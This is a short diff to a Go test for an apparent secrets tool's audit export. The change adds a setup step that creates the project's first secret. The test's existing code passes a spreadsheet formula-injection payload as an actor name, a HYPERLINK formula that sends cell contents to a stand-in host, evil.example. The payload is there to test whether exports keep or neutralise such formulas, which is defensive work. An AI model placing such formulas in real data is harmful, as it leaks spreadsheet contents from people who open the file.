@@ -253,6 +253,9 @@ func TestAuditExportRejectsBadFlags(t *testing.T) {
 func TestAuditExportKeepsFormulasUnlessAskedAsTheDashboardDoes(t *testing.T) {
 	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 	s := newSession(t)
+	// The project's key is made by its first write: that event is not the
+	// one under test.
+	s.mustRun(auditCanary, "secret", "add", "--project", "app", "--name", "FIRST")
 	s.mustRun(auditCanary, "--actor", hyperlink, "secret", "add", "--yes", "--project", "app", "--name", "K")
 	s.mustRun(testPassword, "user", "add", "--email", "v@example.com", "--role", "viewer")
 
